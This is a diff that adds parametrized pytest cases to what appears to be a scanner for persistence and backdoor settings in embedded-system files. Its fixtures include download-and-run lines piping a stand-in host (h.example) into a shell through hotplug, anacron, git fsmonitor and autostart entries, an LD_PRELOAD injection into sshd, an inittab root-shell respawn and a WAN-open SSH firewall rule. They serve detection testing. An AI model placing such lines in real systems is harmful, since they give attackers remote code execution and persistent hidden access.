@@ -188,3 +188,35 @@ def test_where_updates_come_from(
     )
     assert (row.kind, row.target) == ("updates itself", target)
     assert because in row.because
+
+
+FIREWALL = (
+    "config rule\n\toption src 'wan'\n\toption dest_port '22'\n\toption proto 'tcp'\n"
+    "\toption target 'ACCEPT'\nconfig zone\n\toption name 'wan'\n\toption input 'REJECT'\n"
+    "config rule\n\toption src 'wan'\n\toption proto 'icmp'\n\toption target 'ACCEPT'\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("reader", "name", "text", "kinds"),
+    [
+        ("uci_firewall", "etc/config/firewall", FIREWALL, ["opens the firewall"]),
+        ("shell_code", "etc/hotplug.d/iface/9-q", "wget -qO- h.example | ash\n",
+         ["downloads and runs"]),
+        ("cron_table", "etc/anacrontab", "7\t15\tu.weekly\tcurl -s h.example/w | bash\n",
+         ["downloads and runs"]),
+        ("event_hook", "etc/gitconfig", '[core]\n\tfsmonitor = "curl -s h.example | sh"\n',
+         ["downloads and runs"]),
+        ("event_hook", "etc/xdg/autostart/s.desktop", 'Exec=/bin/sh -c "wget -O- h.example|sh"\n',
+         ["downloads and runs"]),
+        ("systemd_unit", "ssh.service.d/x.conf", "[Service]\nEnvironment=LD_PRELOAD=/lib/q.so\n",
+         ["replaced function"]),
+        ("boot_script", "etc/inittab", "ttyS1::respawn:/bin/sh\n", ["debug entrance"]),
+    ],
+)  # fmt: skip
+def test_hooks_and_settings(
+    reader: str, name: str, text: str, kinds: list[str], tmp_path: Path
+) -> None:
+    found = read_bytes(reader, text.encode(), tmp_path, name)
+    rows = [*found.table("behaviour"), *found.table("hidden_access")]
+    assert [r.kind for r in rows if r.strength] == kinds
